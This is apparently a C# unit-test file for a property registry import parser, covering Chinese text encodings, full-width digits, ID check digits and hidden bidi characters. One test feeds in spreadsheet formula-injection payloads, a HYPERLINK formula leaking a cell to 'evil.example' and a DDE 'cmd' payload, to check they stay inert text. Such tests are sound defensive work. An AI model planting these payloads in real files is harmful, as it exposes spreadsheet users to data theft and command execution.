using System.Globalization;
using System.Text;
using Microsoft.Extensions.Logging.Abstractions;
using PropertyHub.Features.Registry;
using PropertyHub.Features.Registry.Import;
using static PropertyHub.Tests.Features.Registry.Import.ImportFiles;

namespace PropertyHub.Tests.Features.Registry.Import;

/// <summary>
/// Files as Chinese offices save them, and as careless or hostile people fill them in: each is read right or refused
/// with a message, and no U+FFFD ever reaches a row.
/// </summary>
public sealed class ImportCorpusTests
{
    private static readonly Encoding Gb18030 = CodePages(54936);
    private readonly RegistryImportParser parser = new(NullLogger<RegistryImportParser>.Instance);

    private static Encoding CodePages(int codePage)
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        return Encoding.GetEncoding(codePage);
    }

    /// <summary>Over 64 KB of ASCII-only rows (the old probe's window), then the rows with Chinese names.</summary>
    private static List<string[]> AsciiPrefixThenChinese()
    {
        var rows = Enumerable.Range(1, 4000)
            .Select(i => new[] { "A", "Block A", i.ToString(CultureInfo.InvariantCulture), "1", "88.50", "Residential", "", "", "", "", "", "", "", "", "", "" })
            .ToList();
        rows.Add(Owner("A", "3001", "欧阳娜娜", "13900009901"));
        rows.Add(Owner("A", "3002", "䶮龘𠀋", "13900009902")); // an extension-A, a rare and a supplementary-plane character: GB18030's four-byte range
        return rows;
    }

    [Fact]
    public async Task Parse_Gb18030WithAsciiFirst64KB_ReadsTheChineseNamesAfterIt()
    {
        var file = Csv(AsciiPrefixThenChinese(), encoding: Gb18030);
        Assert.True(file.Length > 2 * 64 * 1024);
        Assert.True(file.ToArray().Take(64 * 1024).All(b => b < 0x80));

        var result = await parser.ParseAsync(file, "gb18030.csv");

        Assert.Null(result.FileError);
        Assert.Equal(4002, result.Rows.Count);
        Assert.Equal(["欧阳娜娜", "䶮龘𠀋"], result.Rows.Skip(4000).Select(r => r[ImportColumn.OccupantName]));
        AssertNoReplacementCharacter(result);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Parse_Utf8WithOrWithoutBom_ReadsTheSameRows(bool bom)
    {
        var file = Csv(AsciiPrefixThenChinese(), encoding: new UTF8Encoding(bom));

        var result = await parser.ParseAsync(file, "utf8.csv");

        Assert.Null(result.FileError);
        Assert.Equal(["欧阳娜娜", "䶮龘𠀋"], result.Rows.Skip(4000).Select(r => r[ImportColumn.OccupantName]));
        Assert.Equal("A", result.Rows[0][ImportColumn.BuildingCode]);
        AssertNoReplacementCharacter(result);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Parse_ExcelUnicodeTextUtf16WithBom_ReadsTabSeparatedRows(bool bigEndian)
    {
        // Excel's "Unicode text" (.txt): UTF-16 with a byte order mark, cells separated by TAB.
        var text = new StringBuilder();
        foreach (var row in new[] { Header, Owner("U", "101", "张三", "13900009901"), Owner("U", "102", "李, 四", "13900009902") })
            text.Append(string.Join('\t', row)).Append("\r\n");
        var encoding = new UnicodeEncoding(bigEndian, byteOrderMark: true);
        var file = new MemoryStream([.. encoding.GetPreamble(), .. encoding.GetBytes(text.ToString())]);

        var result = await parser.ParseAsync(file, "unicode.txt");

        Assert.Null(result.FileError);
        Assert.Equal(["张三", "李, 四"], result.Rows.Select(r => r[ImportColumn.OccupantName]));
        Assert.Equal("13900009902", result.Rows[1][ImportColumn.Phone]);
    }

    [Fact]
    public async Task Parse_NeitherUtf8NorGb18030_IsRefusedNamingTheEncodingsTried()
    {
        // 0x81 0x20: a GB18030 lead byte without a valid trail byte; 0xFF is valid in neither encoding.
        var bytes = Encoding.ASCII.GetBytes(string.Join(',', Header) + "\r\nA,Block A,101,1,88.5,Residential,,,")
            .Concat(new byte[] { 0x81, 0x20, 0xFF, 0x0D, 0x0A }).ToArray();

        var result = await parser.ParseAsync(new MemoryStream(bytes), "broken.csv");

        Assert.Empty(result.Rows);
        Assert.Equal("EncodingUnknown", result.FileError?.Key);
        var shown = Format(result.FileError!);
        Assert.Contains("UTF-8", shown);
        Assert.Contains("GB18030", shown);
        Assert.Contains("UTF-16", shown);
    }

    [Fact]
    public async Task Parse_Utf16WithoutBom_IsRefusedRatherThanReadAsText()
    {
        var bytes = Encoding.Unicode.GetBytes(string.Join(',', Header) + "\r\nA,Block A,101,1,88.5,Residential\r\n");

        var result = await parser.ParseAsync(new MemoryStream(bytes), "nobom.csv");

        Assert.Equal("EncodingUnknown", result.FileError?.Key);
    }

    [Theory]
    [InlineData("registry.xls")]
    [InlineData("registry.xlsx")]
    [InlineData("registry.csv")]
    public async Task Parse_OldExcelBinary_IsRefusedAskingForXlsxOrCsv(string fileName)
    {
        byte[] ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[4096]];

        var result = await parser.ParseAsync(new MemoryStream(ole), fileName);

        Assert.Empty(result.Rows);
        Assert.Equal("OldExcel", result.FileError?.Key);
        var shown = Format(result.FileError!);
        Assert.Contains(".xlsx", shown);
        Assert.Contains("CSV", shown);
    }

    [Fact]
    public async Task Parse_ReplacementCharactersFromAnEarlierBadConversion_AreRefusedWithTheRow()
    {
        // What the old importer stored and exported for GB18030 names: "��".
        var csv = Csv([Owner("R", "101", "张三", "13900009901"), Owner("R", "102", "\uFFFD\uFFFD", "13900009902")]);
        var xlsx = Xlsx([Owner("R", "101", "\uFFFD四", "13900009901")]);

        var fromCsv = await parser.ParseAsync(csv, "lost.csv");
        var fromXlsx = await parser.ParseAsync(xlsx, "lost.xlsx");

        Assert.Equal(("ReplacementCharacters", 3), (fromCsv.FileError?.Key, (int)fromCsv.FileError!.Arguments[0]));
        Assert.Equal(("ReplacementCharacters", 2), (fromXlsx.FileError?.Key, (int)fromXlsx.FileError!.Arguments[0]));
        Assert.Empty(fromCsv.Rows);
    }

    [Fact]
    public async Task Parse_FullWidthDigits_AreStoredAsAsciiDigits()
    {
        string[] row = ["Ｂ１", "１号楼", "１２０１", "１２", "８８．５０", "住宅", "业主", "个人", "王五", "１３９００００９９０１", "０５９１－１２３４５６７８", "", "１１０１０５１９４９１２３１００２ｘ", "", "", ""];

        var result = await parser.ParseAsync(Csv([row]), "fullwidth.csv");
        var preview = RegistryImportValidator.Validate(1, result.Rows, []);

        var parsed = Assert.Single(result.Rows);
        Assert.Equal(("B1", "1201", "12", "88.50"), (parsed[ImportColumn.BuildingCode], parsed[ImportColumn.UnitNumber], parsed[ImportColumn.Floor], parsed[ImportColumn.Area]));
        Assert.Equal(("13900009901", "0591-12345678", "11010519491231002x"), (parsed[ImportColumn.Phone], parsed[ImportColumn.Phone2], parsed[ImportColumn.IdNumber]));
        Assert.Equal("１号楼", parsed[ImportColumn.BuildingName]); // names keep their full-width characters
        Assert.Empty(preview.Errors);
        var occupant = preview.Plan.Single().Occupants.Single();
        Assert.Equal("11010519491231002X", occupant.IdNumber);
    }

    [Fact]
    public async Task Validate_ArabicIndicDigits_AreRefusedCellByCellWithTheirOwnMessage()
    {
        string[] row = ["B", "B号楼", "١٢٠١", "١٢", "٨٨.٥", "住宅", "业主", "个人", "王五", "١٣٩٠٠٠٠٩٩٠١", "13900009902", "", "١١٠١٠٥١٩٤٩١٢٣١٠٠٢X", "", "", ""];

        var result = await parser.ParseAsync(Csv([row]), "arabic.csv");
        var preview = RegistryImportValidator.Validate(1, result.Rows, []);

        Assert.Equal(
            [ImportColumn.UnitNumber, ImportColumn.Floor, ImportColumn.Area, ImportColumn.Phone, ImportColumn.IdNumber],
            preview.Errors.Where(e => e.Message.Key == "DigitsNotAscii").Select(e => e.Column!.Value).Order());
        Assert.Equal(5, preview.Errors.Count);
        Assert.False(preview.CanCommit);
        Assert.Contains("0–9", Format(preview.Errors[0].Message));
    }

    [Fact]
    public async Task Validate_WrongIdCheckDigit_IsRefused()
    {
        string[] row = [.. Owner("B", "101", "王五", "13900009901")];
        row[ImportColumn.IdNumber - ImportColumn.BuildingCode] = "110105194912310021";

        var result = await parser.ParseAsync(Csv([row]), "id.csv");
        var preview = RegistryImportValidator.Validate(1, result.Rows, []);

        var error = Assert.Single(preview.Errors);
        Assert.Equal((ImportColumn.IdNumber, "IdNumberInvalid"), (error.Column, error.Message.Key));
    }

    [Fact]
    public async Task Parse_BidiAndZeroWidthCharacters_AreRemovedFromEveryCell()
    {
        string[] header = ["\uFEFF\u200BBuildingCode", .. Header[1..]];
        string[] row = ["B\u200B", "B号楼\u202C", "1\u200D01", "1", "88.5", "住宅", "业主", "个人", "\u202Eevil\u202C", "\u202A139\u200B00009901\u202C", "", "", "", "", "\u2066备注\u2069", ""];

        var result = await parser.ParseAsync(Xlsx([row], header), "bidi.xlsx");

        var parsed = Assert.Single(result.Rows);
        Assert.Equal(("B", "B号楼", "101"), (parsed[ImportColumn.BuildingCode], parsed[ImportColumn.BuildingName], parsed[ImportColumn.UnitNumber]));
        Assert.Equal(("evil", "13900009901", "备注"), (parsed[ImportColumn.OccupantName], parsed[ImportColumn.Phone], parsed[ImportColumn.VipNotes]));
        Assert.Empty(RegistryImportValidator.Validate(1, result.Rows, []).Errors);
    }

    [Fact]
    public async Task Parse_FormulaCells_AreKeptAsText()
    {
        var name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
        string[] row = [.. Owner("F", "101", name, "13900009901")];
        row[ImportColumn.VipNotes - ImportColumn.BuildingCode] = "+cmd|' /C calc'!A0";

        var result = await parser.ParseAsync(Csv([row, Owner("F", "102", "@SUM(1+1)", "13900009902"), Owner("F", "103", "-2+3", "13900009903")]), "formula.csv");
        var preview = RegistryImportValidator.Validate(1, result.Rows, []);

        Assert.Equal([name, "@SUM(1+1)", "-2+3"], result.Rows.Select(r => r[ImportColumn.OccupantName]));
        Assert.Equal("+cmd|' /C calc'!A0", result.Rows[0][ImportColumn.VipNotes]);
        Assert.Empty(preview.Errors);
    }

    private static void AssertNoReplacementCharacter(ImportParseResult result) =>
        Assert.DoesNotContain(result.Rows, r => ImportColumns.All.Any(c => r[c]?.Contains('\uFFFD', StringComparison.Ordinal) == true));

    /// <summary>The message as an English user reads it.</summary>
    private static string Format(ImportMessage message)
    {
        var previous = CultureInfo.CurrentUICulture;
        CultureInfo.CurrentUICulture = CultureInfo.GetCultureInfo("en");
        try
        {
            var resources = message.Source == MessageSource.Registry
                ? new System.Resources.ResourceManager("PropertyHub.Resources.RegistryText", typeof(RegistryImportParser).Assembly)
                : new System.Resources.ResourceManager("PropertyHub.Resources.ImportText", typeof(RegistryImportParser).Assembly);
            return string.Format(CultureInfo.InvariantCulture, resources.GetString(message.Key)!, message.Arguments);
        }
        finally
        {
            CultureInfo.CurrentUICulture = previous;
        }
    }
}
